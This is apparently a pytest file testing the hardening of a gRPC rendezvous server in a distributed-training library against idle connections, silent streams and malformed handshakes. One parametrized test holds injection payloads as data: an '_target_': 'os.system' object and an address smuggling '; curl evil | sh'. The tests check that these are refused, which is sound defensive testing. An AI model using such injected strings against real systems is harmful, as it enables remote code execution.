"""Whoever comes without being asked: it may neither use the door up nor come in later."""

from __future__ import annotations

import os
import queue
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest
from certificates import certificates
from test_grpc import LONG, STAR, close, frame, meeting, start

from vertical_lightning.distributed.transport.deadline import Deadline
from vertical_lightning.distributed.transport.failure import RefusedError, RendezvousError
from vertical_lightning.distributed.transport.grpc import server as doors
from vertical_lightning.distributed.transport.grpc.backend import Grpc
from vertical_lightning.distributed.transport.grpc.credentials import Credentials
from vertical_lightning.distributed.transport.grpc.options import METHOD, OPTIONS, SERVICE
from vertical_lightning.distributed.transport.grpc.server import Server

IDLE = """
import resource, socket, sys
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, hard), hard))
lines = [socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5) for _ in range(int(sys.argv[2]))]
print("there", flush=True)
sys.stdin.readline()
"""


@pytest.fixture
def address() -> str:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return f"127.0.0.1:{probe.getsockname()[1]}"


def descriptors() -> int:
    return len(os.listdir("/proc/self/fd"))


@pytest.mark.parametrize("secure", [True, False], ids=["tls", "in the clear"])
def test_idle_connections_use_nothing_up(secure: bool, address: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """1,200 of them, more than a process has descriptors; alice comes in as soon as the first ones have been hung up on."""
    monkeypatch.setattr(doors, "SILENT", 1.0)
    engines = {name: Grpc(**certificates(tmp_path, name)) if secure else Grpc() for name in ("alice", "bob")}
    before = descriptors()
    bob = start(engines["bob"], "bob", address)
    until_open(address)
    words = [sys.executable, "-c", IDLE, address.rpartition(":")[2], "1200"]
    with subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True) as stranger:
        assert stranger.stdout and stranger.stdin
        stranger.stdout.readline()
        assert descriptors() - before < 100
        alice = start(engines["alice"], "alice", address).result(LONG)
        links = bob.result(LONG)
        links["alice"].send(frame(100))
        assert alice["bob"].receive().tolist() == frame(100).tolist()
        stranger.stdin.write("\n")
    close(alice, links)


def until_open(address: str) -> None:
    host, _, port = address.rpartition(":")
    ends = time.monotonic() + LONG
    while time.monotonic() < ends:
        try:
            socket.create_connection((host, int(port)), 1.0).close()
            return
        except OSError:
            time.sleep(0.02)


def connect_until(ends: float, host: str, port: int) -> None:
    while time.monotonic() < ends:
        socket.create_connection((host, port), 1.0).close()


def test_after_all_are_in_the_door_is_shut(address: str, tmp_path: Path) -> None:
    """Nobody connects any more, and those who are inside go on."""
    waiting = {name: start(Grpc(**certificates(tmp_path, name)), name, address) for name in ("alice", "bob")}
    links = {name: one.result(LONG) for name, one in waiting.items()}
    host, _, port = address.rpartition(":")
    ends = time.monotonic() + LONG
    with pytest.raises(ConnectionRefusedError):
        connect_until(ends, host, int(port))
    for number in range(100):
        links["alice"]["bob"].send(frame(1000, number))
        assert links["bob"]["alice"].receive().tolist() == frame(1000, number).tolist()
    close(*links.values())


class Silent:
    """Opens streams, as many as it may, and says nothing on any."""

    def __init__(self, address: str, streams: int, credentials: Credentials | None = None) -> None:
        self.ended = threading.Semaphore(0)
        self._channels = []
        for _ in range(streams):
            options = [*OPTIONS, ("grpc.ssl_target_name_override", "bob")]
            if credentials is None:
                channel = grpc.insecure_channel(address, OPTIONS)
            else:
                channel = grpc.secure_channel(address, credentials.of_client(), options)
            call = channel.stream_stream(f"/{SERVICE}/{METHOD}")(iter(queue.Queue().get, None))
            call.add_done_callback(lambda _: self.ended.release())
            self._channels.append(channel)

    def close(self) -> None:
        for channel in self._channels:
            channel.close()


@pytest.fixture
def door(address: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Server]:
    monkeypatch.setattr(doors, "SILENT", 1.0)
    made = Server(meeting("bob", address, ["alice", "carol", "bob"], STAR), ["alice", "carol"], address, None)
    yield made
    made.close()


def test_silent_streams_are_ended(door: Server, address: str) -> None:
    before = threading.active_count()
    silent = Silent(address, 12)
    for _ in range(12):
        assert silent.ended.acquire(timeout=LONG), "a stream that says nothing is still there"
    silent.close()
    ends = time.monotonic() + LONG
    while threading.active_count() > before + 12 and time.monotonic() < ends:  # the client's own
        time.sleep(0.1)
    assert not door._silent.total()
    links = {name: start(Grpc(), name, address, ["alice", "carol", "bob"]) for name in ("alice", "carol")}
    inside = door.wait(Deadline(meeting("bob", address)), LONG)
    close(inside, *(one.result(LONG) for one in links.values()))


class LyingDoor(Server):
    """Honest but for the book."""

    book = b""

    def _serve(self, incoming: Iterator[bytes], context: grpc.ServicerContext) -> Iterator[bytes]:
        self._admit(incoming, context)
        yield self.book


@pytest.mark.parametrize(
    "book",
    [
        b'{"missing": [], "book": {"bob": {"_target_": "os.system"}}}',
        b'{"missing": [], "book": {"bob": "10.0.0.1:1; curl evil | sh"}}',
        b'{"missing": []}',
        b"[" * 100_000,
        b"\xff",
    ],
    ids=["code", "no address", "nothing", "deep", "no text"],
)
def test_a_book_that_is_none(book: bytes, address: str) -> None:
    lying = LyingDoor(meeting("bob", address), ["alice"], address, None)
    lying.book = book
    with pytest.raises(RefusedError, match="alice refuses what bob says at") as caught:
        Grpc().connect(meeting("alice", address))
    assert caught.value.party == "bob"
    lying.close()


@pytest.mark.parametrize("first", [b"[" * 100_000, b'{"party": {"_target_": "os.system"}}', b"\xff", b"x" * 2**20])
def test_first_words_that_are_none(first: bytes, address: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """The door turns them away in a sentence, and the honest party comes in afterwards."""
    bob = start(Grpc(), "bob", address)
    with monkeypatch.context() as changed:
        changed.setattr("vertical_lightning.distributed.transport.grpc.client.hello", lambda *_: first)
        with pytest.raises(RendezvousError, match=r'bob at .* answers "bob at .* does not understand this version'):
            Grpc().connect(meeting("alice", address))
    assert not bob.done()
    close(start(Grpc(), "alice", address).result(LONG), bob.result(LONG))
